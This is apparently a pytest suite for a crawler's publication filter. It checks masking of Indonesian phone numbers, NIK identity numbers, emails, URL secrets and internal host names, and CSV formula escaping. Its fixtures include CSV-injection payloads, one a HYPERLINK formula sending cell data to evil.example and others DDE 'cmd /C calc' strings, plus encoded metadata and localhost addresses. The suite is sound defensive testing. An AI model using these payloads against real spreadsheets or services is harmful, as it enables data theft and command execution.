"""Gaps an outside tester found in the publication filter: `report --kim` skipping it, NIK and
phone digits in match evidence, Unicode and slash spellings, internal host names and IPv6 in
published errors, formulas in `registry show --format csv`."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from pathlib import Path

import pytest
from click.testing import CliRunner

from crawler import store
from crawler.cli import cli
from crawler.reporting import publish
from tests.report.known_store import DAYS, UNTIL, build_known_store

PHONE = "0812-3456-7890"
EMAIL = "siti.aminah@contoh.co.id"
NIK = "6371 0123 4567 0001"
SECRETS = ["apiKeyRahasia77", "sigRahasia88", "keyRahasia99", "tokRahasia11", "accRahasia22"]
PERSONAL = [PHONE, "081234567890", EMAIL, "siti.aminah", NIK, "6371012345670001"]
INTERNAL = ["vm:8099", "ffff:7f00", "::7f00:1", "%31%36%39", "169.254.169.254", "fe80::1"]


def _plant(path: Path) -> None:
    db = build_known_store(path)
    title = f"Kontak {PHONE} / {EMAIL}, NIK {NIK}"
    text = (f"Pendaftaran vaksin tahun 2024, biaya Rp 50.000 untuk 250 warga. Hubungi {PHONE} atau {EMAIL}. "
            f"NIK {NIK}.")
    with store.transaction(db):
        db.execute("UPDATE kims SET name = ?, village = ? WHERE id = 'kim-a'",
                   [f"KIM Alalak (WA {PHONE})", f"Alalak {EMAIL}"])
        db.execute("UPDATE channels SET via = ?, last_error = ?, consecutive_failures = 2 WHERE id = 'kim-a/feed'",
                   [f"https://rsshub.example.org/feed?apikey={SECRETS[0]}&sig={SECRETS[1]}",
                    "refused http://vm:8099/…: it is ::ffff:7f00:1 (loopback), an internal address reached "
                    "from a public channel; also ::7f00:1 and fe80::1%eth0"])
        db.execute("UPDATE channels SET url = ?, last_error = ? WHERE id = 'kim-a/telegram'",
                   [f"https://t.me/s/alalak?key={SECRETS[2]}&token={SECRETS[3]}&access_token={SECRETS[4]}",
                    "DNS lookup failed for %31%36%39.254.169.254: no address"])
        db.execute("UPDATE posts SET title = ?, text = ?, url = ? WHERE id = 'p-a1'",
                   [title, text, f"https://alalak.kim.id/p/1?apikey={SECRETS[0]}&sig={SECRETS[1]}"])
        db.execute("UPDATE amplifications SET evidence = ? WHERE post_id = 'p-a1'", [json.dumps({
            "kind": "summary",
            "shared_terms": ["vaksin", "2024", "50000", "250"],
            "post_only_facts": ["0001", "0123", "4567", "6371", "0812", "3456", "7890", "2024", "250"],
            "post_only_terms": ["nik", "6371", "siti", "aminah", "contoh", "hubung", "warga"],
            "passages": [f"hubungi {PHONE} atau {EMAIL}", f"NIK {NIK}"],
        })])
    db.conn.close()


@pytest.fixture
def planted(tmp_path: Path) -> str:
    path = tmp_path / "live.db"
    _plant(path)
    return str(path)


def _leaks(text: str, values: list[str]) -> list[str]:
    return [v for v in values if v in text]


def _invoke(*args: str) -> str:
    result = CliRunner().invoke(cli, list(args), catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.output


# --------------------------------------------------------------------------- 1. report --kim

@pytest.mark.parametrize("fmt", ["table", "json", "html"])
def test_kim_report_goes_through_the_publication_filter(planted: str, fmt: str) -> None:
    out = _invoke("--db", planted, "report", "--days", str(DAYS), "--until", UNTIL, "--kim", "kim-a",
                  "--format", fmt)
    assert _leaks(out, PERSONAL + SECRETS) == []
    assert "[telepon]" in out and "alalak.kim.id" in out
    if fmt != "table":  # the table does not show errors in full
        assert "[secret]" in out
    if fmt == "json":
        found = json.loads(out)
        assert [p["id"] for p in found["posts"]] == ["p-a1", "p-a3", "p-a2"]  # ids kept
        assert "[NIK]" in found["posts"][0]["title"] and "[email]" in found["posts"][0]["title"]
        errors = " ".join(c.get("last_error") or "" for c in found["kim"]["channels"])
        assert _leaks(errors, INTERNAL) == [] and "refused [internal address]: " in errors


def test_kim_report_keep_personal_data_keeps_them_but_not_secrets(planted: str) -> None:
    out = _invoke("--db", planted, "report", "--days", str(DAYS), "--until", UNTIL, "--kim", "kim-a",
                  "--format", "json", "--keep-personal-data")
    assert PHONE in out and EMAIL in out
    assert _leaks(out, SECRETS) == []


# --------------------------------------------------------------------------- 2. evidence

def test_dump_evidence_has_no_masked_digits_or_email_parts(planted: str, tmp_path: Path) -> None:
    _invoke("--db", planted, "dump", str(tmp_path / "dump"))
    conn = sqlite3.connect(tmp_path / "dump" / "kimwatch.db")
    evidence = json.loads(conn.execute("SELECT evidence FROM amplifications WHERE post_id = 'p-a1'").fetchone()[0])
    # the digit groups of the NIK and phone number and the parts of the e-mail are gone…
    assert evidence["post_only_facts"] == ["2024", "250"]
    assert evidence["post_only_terms"] == ["nik", "hubung", "warga"]
    # …ordinary numbers stay, and passages are filtered like texts
    assert evidence["shared_terms"] == ["vaksin", "2024", "50000", "250"]
    assert evidence["passages"] == ["hubungi [telepon] atau [email]", "NIK [NIK]"]
    data = (tmp_path / "dump" / "kimwatch.db").read_bytes().decode("utf-8", "replace")
    assert _leaks(data, PERSONAL + SECRETS + ["siti", "aminah"]) == []
    assert '"0123"' not in data and '"6371"' not in data


def test_internal_dump_keeps_evidence_terms(planted: str, tmp_path: Path) -> None:
    _invoke("--db", planted, "dump", str(tmp_path / "internal"), "--internal")
    conn = sqlite3.connect(tmp_path / "internal" / "kimwatch.db")
    evidence = json.loads(conn.execute("SELECT evidence FROM amplifications WHERE post_id = 'p-a1'").fetchone()[0])
    assert "6371" in evidence["post_only_facts"]


def test_personal_terms_come_only_from_masked_spans() -> None:
    terms = publish.personal_terms([f"Tahun 2024, Rp 50.000, 250 warga. HP {PHONE}, {EMAIL}, NIK {NIK}"])
    assert {"0812", "3456", "7890", "6371", "0123", "4567", "0001", "siti", "aminah"} <= terms
    assert not {"2024", "50000", "50.000", "250", "nik", "warga", "tahun"} & terms


# --------------------------------------------------------------------------- 3. spellings

@pytest.mark.parametrize(("spelling", "mask"), [
    ("6371\u00a00123\u00a04567\u00a00005", "[NIK]"),
    ("6371\u202f0123\u202f4567\u202f0005", "[NIK]"),
    ("637101\u2009150885\u20090001", "[NIK]"),
    ("\uff10\uff18\uff11\uff12\uff13\uff14\uff15\uff16\uff17\uff18\uff19\uff19", "[telepon]"),
    ("\uff10\uff18\uff11\uff12-\uff13\uff14\uff15\uff16-\uff17\uff18\uff11\uff10", "[telepon]"),
    ("0812/3456/7810", "[telepon]"),
    ("+62 812/3456/7810", "[telepon]"),
    ("0511/3361234", "[telepon]"),
    ("0812\u00a03456\u00a07890", "[telepon]"),
])
def test_unicode_and_slash_spellings_are_masked(spelling: str, mask: str) -> None:
    assert publish.clean_text(f"Hubungi {spelling} segera") == f"Hubungi {mask} segera"


@pytest.mark.parametrize("ordinary", ["17/10/2024", "17/10/2024 - 18/10/2024", "2024/10/17", "08/11/2024",
                                      "1/2/2024 3/4/2024", "no. 12/345/678/2024", "Rp\u00a050.000",
                                      "tahun\u00a02024"])
def test_dates_with_slashes_stay(ordinary: str) -> None:
    assert "[" not in publish.clean_text(f"tanggal {ordinary} ya")


# --------------------------------------------------------------------------- 4. internal hosts

@pytest.mark.parametrize(("message", "expected"), [
    ("refused http://vm:8099/…: it is ::ffff:7f00:1 (loopback), an internal address",
     "refused [internal address]: it is [internal address] (loopback), an internal address"),
    ("refused https://db1.example.org:5432/…: it is 10.0.0.5 (private)",
     "refused [internal address]: it is [internal address] (private)"),
    ("refused [::1]:8080: loopback", "refused [internal address]: loopback"),
    ("it is ::7f00:1 (loopback)", "it is [internal address] (loopback)"),
    ("via ::1 and fe80::1%eth0 and fd12:3456::1 and fc00::5", "via [internal address] and [internal address] "
     "and [internal address] and [internal address]"),
    ("DNS lookup failed for %31%36%39.254.169.254: no address",
     "DNS lookup failed for [internal address]: no address"),
    ("GET http://%31%32%37.0.0.1:8080/admin failed", "GET [internal address] failed"),
    ("%6c%6f%63%61%6c%68%6f%73%74:8080 down", "[internal address] down"),
])
def test_internal_hosts_in_errors(message: str, expected: str) -> None:
    assert publish.clean_error(message) == expected


@pytest.mark.parametrize("message", [
    "the proxy refused to tunnel HTTPS (CONNECT) to https://example.org/x", "timeout at 10:00:00",
    "public 2001:4860:4860::8888 answered 503", "progress 50%20 done", "file a%2Fb.pdf not found",
    "refused: robots.txt disallows /feed",
])
def test_public_and_ordinary_error_text_stays(message: str) -> None:
    assert publish.clean_error(message) == message


def test_dump_and_report_json_mask_internal_hosts_in_errors(planted: str, tmp_path: Path) -> None:
    _invoke("--db", planted, "dump", str(tmp_path / "dump"))
    conn = sqlite3.connect(tmp_path / "dump" / "kimwatch.db")
    errors = " ".join(r[0] or "" for r in conn.execute("SELECT last_error FROM channels"))
    assert _leaks(errors, INTERNAL) == [] and "refused [internal address]: it is [internal address]" in errors
    report = _invoke("--db", planted, "report", "--until", UNTIL, "--format", "json")
    assert _leaks(report, INTERNAL + SECRETS + PERSONAL) == []


# --------------------------------------------------------------------------- 5. registry CSV

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "+1+1"]


def test_registry_show_csv_escapes_formulas(tmp_path: Path) -> None:
    path = tmp_path / "k.db"
    build_known_store(path).conn.close()
    with sqlite3.connect(path) as conn:
        conn.execute("UPDATE kims SET name = ?, district = ?, village = ? WHERE id = 'kim-a'", FORMULAS[:3])
        conn.execute("UPDATE channels SET last_status = ? WHERE id = 'kim-a/feed'", [FORMULAS[3]])
    out = _invoke("--db", str(path), "registry", "show", "--format", "csv", "--kim", "kim-a")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert rows and all(row["name"] == "'" + FORMULAS[0] for row in rows)
    assert rows[0]["district"] == "'" + FORMULAS[1] and rows[0]["village"] == "'" + FORMULAS[2]
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c and c[0] in "=+-@"]
    assert all(row["consecutive_failures"].lstrip("-").isdigit() for row in rows)  # numbers stay numbers


@pytest.mark.parametrize(("text", "masked"), [
    ("NIK6371012345670001", "NIK[NIK]"), ("KK6371012345670001", "KK[NIK]"),
    ("no.NIK6371012345670001 ok", "no.NIK[NIK] ok"), ("nik_6371012345670001", "nik_[NIK]"),
    ("HP081234567890", "HP[telepon]"), ("WA:6281234567890", "WA:[telepon]"),
])
def test_a_label_glued_to_the_number_does_not_hide_it(text: str, masked: str) -> None:
    assert publish.clean_text(text) == masked


@pytest.mark.parametrize("text", ["Rp62.812.500.000", "NIP 198501012010011001", "ID 1234567890123456789"])
def test_glued_labels_do_not_make_amounts_or_other_ids_personal(text: str) -> None:
    assert publish.clean_text(text) == text
